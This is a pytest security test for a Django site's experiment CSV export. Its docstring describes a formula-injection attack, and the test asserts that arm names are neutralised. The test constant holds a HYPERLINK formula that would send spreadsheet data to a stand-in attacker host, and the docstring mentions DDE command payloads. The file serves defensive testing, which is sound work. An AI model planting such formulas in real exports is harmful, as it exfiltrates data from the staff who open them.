"""An arm's name is written into the experiment's CSV as it was typed, so a
name that starts with "=" is a live formula in the spreadsheet it opens in.

What an attacker does: a member of Business staff (or anyone who gets a
Business login) names an arm of a draft experiment
``=HYPERLINK("https://evil.example/?"&A1,"Open the report")`` in the admin,
which accepts it. When another member of staff, or a superuser, downloads
the experiment's CSV from /desk/experiments/ and opens it in Excel, Sheets
or LibreOffice, the cell is evaluated: a link that sends the sheet's
numbers away, or with DDE-style payloads, a command. Every other cell of
the site's CSVs is a number or a date; this one is text from a form.

Harm: the publisher's own staff are attacked through a file the site
serves them; the usual guard (a leading apostrophe, or refusing names that
start with = + - @ tab or carriage return) is missing.
"""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.test import Client

from masthead.experiments.tests.factories import make_allowance_experiment
from masthead.testing.accounts import make_staff

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open the report")'


def test_an_arm_named_like_a_formula_is_not_a_formula_in_the_csv():
    experiment = make_allowance_experiment(arms={"Five": 5, FORMULA: 3})
    business = make_staff(username="sales")
    business.groups.add(Group.objects.get(name="Business"))
    browser = Client()
    browser.force_login(business)

    response = browser.get(f"/desk/experiments/{experiment.pk}/?format=csv")
    assert response.status_code == 200
    cells = [row[0] for row in csv.reader(io.StringIO(response.content.decode()))][1:]
    assert len(cells) == 2
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells
